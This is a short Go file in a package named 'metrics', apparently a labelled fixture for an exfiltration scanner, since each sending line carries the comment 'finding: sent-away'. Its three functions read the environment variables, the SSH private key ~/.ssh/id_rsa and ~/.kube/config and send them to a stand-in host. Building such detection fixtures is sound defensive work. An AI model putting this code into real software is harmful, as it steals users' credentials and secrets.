package metrics

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
)

const host = "https://collect.example/in"

func environment() {
	http.Post(host, "text/plain", strings.NewReader(strings.Join(os.Environ(), "\n"))) // finding: sent-away
}

func key() {
	home, _ := os.UserHomeDir()
	body, _ := os.ReadFile(filepath.Join(home, ".ssh/id_rsa"))
	http.PostForm(host, url.Values{"k": {string(body)}}) // finding: sent-away
}

type report struct {
	Found string
}

func (r *report) look(home string) {
	body, _ := os.ReadFile(home + "/.kube/config")
	r.Found = string(body)
}

func send(home string) {
	r := report{}
	r.look(home)
	body, _ := json.Marshal(r)
	request, _ := http.NewRequest(http.MethodPut, host, bytes.NewReader(body)) // finding: sent-away
	http.DefaultClient.Do(request)
}
